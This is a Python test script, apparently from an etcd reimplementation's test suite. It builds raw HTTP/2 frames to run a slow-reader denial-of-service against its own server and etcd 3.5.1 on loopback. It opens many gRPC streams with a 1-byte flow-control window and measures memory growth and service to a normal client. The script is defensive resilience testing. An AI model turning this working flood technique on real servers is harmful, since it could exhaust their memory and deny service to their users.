"""Slow-reading HTTP/2 clients against swift-etcd and etcd 3.5.1, side by side.

CONNS connections each open STREAMS Range calls for one VALUE-byte key, with
an initial stream window of 1 byte, and then give window back one byte per
stream every 0.2 s while discarding what arrives: the server has every
answer to build and can send almost none of them. Meanwhile a well-behaved
client does a 1-key Range every 0.5 s on its own connection (it must keep
being answered). Prints each server's peak RSS during the attack, RSS 3 s
after the attackers close, and the well-behaved client's answered/failed calls.

Loopback only, ports 20000-32767, bounded by --seconds; servers are killed
with the script (PR_SET_PDEATHSIG).
"""
import argparse
import os
import shutil
import socket
import struct
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "fuzz"))
from hpack import Encoder  # noqa: E402
from servers import Server, ours_binary, reference_binary, rss_mib  # noqa: E402

import grpc  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def grpc_message(body):
    return b"\x00" + struct.pack(">I", len(body)) + body


def range_request(key):
    return b"\x0a" + bytes([len(key)]) + key  # RangeRequest.key (field 1), short key


def put_request(key, value):
    def varint(n):
        out = bytearray()
        while True:
            b, n = n & 0x7F, n >> 7
            out.append(b | (0x80 if n else 0))
            if not n:
                return bytes(out)
    return b"\x0a" + varint(len(key)) + key + b"\x12" + varint(len(value)) + value


def open_attacker(port, streams, path, body):
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 * 1024)
    enc = Encoder()
    out = bytearray(PREFACE)
    out += frame(4, 0, 0, struct.pack(">HI", 4, 1))  # SETTINGS_INITIAL_WINDOW_SIZE = 1
    for i in range(streams):
        sid = 1 + 2 * i
        headers = enc.encode([(":method", "POST"), (":scheme", "http"), (":path", path),
                              (":authority", "127.0.0.1"), ("content-type", "application/grpc"),
                              ("te", "trailers")])
        out += frame(1, 4, sid, headers)  # HEADERS, END_HEADERS
        out += frame(0, 1, sid, grpc_message(body))  # DATA, END_STREAM
    s.sendall(out)
    s.setblocking(False)
    return s


def drain(sock):
    try:
        while sock.recv(65536):
            pass
    except (BlockingIOError, InterruptedError):
        pass
    except OSError:
        return False
    return True


def attack(label, binary, args, workdir):
    server = Server(label, binary, workdir)
    try:
        server.wait_listening()
        channel = grpc.insecure_channel(server.endpoint, options=[("grpc.max_receive_message_length", 64 << 20),
                                                                  ("grpc.max_send_message_length", 64 << 20)])
        put = channel.unary_unary("/etcdserverpb.KV/Put")
        rng = channel.unary_unary("/etcdserverpb.KV/Range")
        put(put_request(b"big", b"v" * args.value), timeout=30)
        put(put_request(b"small", b"s"), timeout=30)
        base = rss_mib(server.proc.pid)
        socks = [open_attacker(server.client_port, args.streams, "/etcdserverpb.KV/Range", range_request(b"big"))
                 for _ in range(args.conns)]
        peak, ok, failed, slowest = base, 0, 0, 0.0
        end, next_call = time.time() + args.seconds, 0.0
        while time.time() < end:
            for s in socks:
                drain(s)
                try:
                    s.send(b"".join(frame(8, 0, 1 + 2 * i, struct.pack(">I", 1)) for i in range(args.streams)))
                except OSError:
                    pass
            peak = max(peak, rss_mib(server.proc.pid))
            if time.time() >= next_call:
                next_call = time.time() + 0.5
                started = time.time()
                try:
                    rng(range_request(b"small"), timeout=5)
                    ok += 1
                except grpc.RpcError:
                    failed += 1
                slowest = max(slowest, time.time() - started)
            time.sleep(0.2)
        for s in socks:
            s.close()
        time.sleep(3)
        after = rss_mib(server.proc.pid)
        alive = server.alive()
        channel.close()
        return dict(label=label, base=base, peak=peak, after=after, ok=ok, failed=failed, slowest=slowest, alive=alive)
    finally:
        server.stop()


def side_by_side(args, prefix, run, describe):
    """Runs `run(label, binary, args, workdir)` on ours, then etcd 3.5.1 (or
    only `args.only`), printing `describe(result)` after each label."""
    workdir = tempfile.mkdtemp(prefix=prefix)
    try:
        for label, binary in [("ours", ours_binary()), ("reference", reference_binary())]:
            if args.only and args.only != label:
                continue
            print(f"{label:9s} {describe(run(label, binary, args, workdir))}", flush=True)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--conns", type=int, default=100)
    p.add_argument("--streams", type=int, default=50)
    p.add_argument("--value", type=int, default=1_000_000)
    p.add_argument("--seconds", type=float, default=20)
    p.add_argument("--only", choices=["ours", "reference"], default=None)
    args = p.parse_args()
    side_by_side(args, "slow-readers-", attack, lambda r: (
        f"{args.conns} conns x {args.streams} streams x {args.value} B: "
        f"RSS before {r['base']:.0f} MiB, peak {r['peak']:.0f} MiB, 3 s after close {r['after']:.0f} MiB; "
        f"other client {r['ok']} answered, {r['failed']} failed, slowest {r['slowest']:.2f} s; "
        f"alive {r['alive']}"))


if __name__ == "__main__":
    main()
